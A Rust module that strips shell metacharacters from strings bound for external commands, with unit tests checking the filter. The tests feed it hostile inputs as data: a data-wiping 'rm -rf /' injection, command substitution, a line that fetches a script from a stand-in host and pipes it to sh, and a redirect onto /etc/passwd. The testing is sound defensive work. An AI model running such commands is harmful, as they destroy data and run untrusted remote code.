//! Allowlist filter for strings that end up in external command lines.
//!
//! Default set: ASCII letters, digits, `-`, `_`, `.` and space. Extended mode
//! also keeps `/` and `@` so repository references survive
//! (`github.com/user/repo`, `git@host`). Everything else is dropped, which
//! covers every shell metacharacter (``; $ ` ' " | \ & > < ( ) * ? # !``) and `:`.
//!
//! This is defense in depth only. Whatever interpolates sanitized text into a
//! command must still execute it as an argument vector, never through a shell:
//! `"repo; rm -rf /"` becomes `"repo rm -rf /"`, harmless as one argv element
//! but not something to hand to `sh -c`.

fn is_allowed(c: char, allow_extended: bool) -> bool {
    c.is_ascii_alphanumeric()
        || matches!(c, '-' | '_' | '.' | ' ')
        || (allow_extended && matches!(c, '/' | '@'))
}

/// Removes every character outside the allowlist. Empty input yields an
/// empty string.
pub fn sanitize(text: &str, allow_extended: bool) -> String {
    text.chars()
        .filter(|&c| is_allowed(c, allow_extended))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    const METACHARACTERS: &[char] = &[
        ';', '$', '`', '\'', '"', '|', '\\', '&', '>', '<', '(', ')', '*', '?', '#', ':',
    ];

    #[test]
    fn test_empty_input() {
        assert_eq!(sanitize("", false), "");
        assert_eq!(sanitize("", true), "");
    }

    #[test]
    fn test_keeps_allowed_characters() {
        assert_eq!(sanitize("abc123XYZ", false), "abc123XYZ");
        assert_eq!(
            sanitize("my-project_name.txt file", false),
            "my-project_name.txt file"
        );
    }

    #[test]
    fn test_removes_shell_injection() {
        assert_eq!(sanitize("test; rm -rf /", false), "test rm -rf ");
        assert_eq!(sanitize("$(whoami)`pwd`", false), "whoamipwd");
        assert_eq!(sanitize(r#""hello" 'world'"#, false), "hello world");
    }

    #[test]
    fn test_extended_keeps_slash_and_at() {
        assert_eq!(
            sanitize("github.com/user/repo", true),
            "github.com/user/repo"
        );
        assert_eq!(sanitize("user@example.com", true), "user@example.com");
        assert_eq!(sanitize("github.com/user/repo", false), "github.comuserrepo");
    }

    #[test]
    fn test_extended_still_removes_colon_and_metacharacters() {
        assert_eq!(
            sanitize("git@github.com:user/repo", true),
            "git@github.comuser/repo"
        );
        assert_eq!(
            sanitize("github.com/user/repo; rm -rf /", true),
            "github.com/user/repo rm -rf /"
        );
    }

    #[test]
    fn test_non_ascii_is_dropped() {
        assert_eq!(sanitize("café\u{202e}rtl", false), "cafrtl");
        assert_eq!(sanitize("tab\tnew\nline", false), "tabnewline");
    }

    #[test]
    fn test_output_never_contains_metacharacters() {
        let inputs = [
            "a;b$c`d'e\"f|g\\h&i>j<k(l)m*n?o#p:q",
            "$(curl evil.sh | sh)",
            "x && y || z > /etc/passwd",
            "#!/bin/bash",
        ];
        for input in inputs {
            for extended in [false, true] {
                let output = sanitize(input, extended);
                assert!(
                    !output.contains(METACHARACTERS),
                    "{:?} (extended={}) produced {:?}",
                    input,
                    extended,
                    output
                );
            }
        }
    }

    #[test]
    fn test_identity_on_allowed_input() {
        let plain = "Release_2.0 build-42";
        assert_eq!(sanitize(plain, false), plain);
        let reference = "git@example.org/team/repo.git";
        assert_eq!(sanitize(reference, true), reference);
    }
}
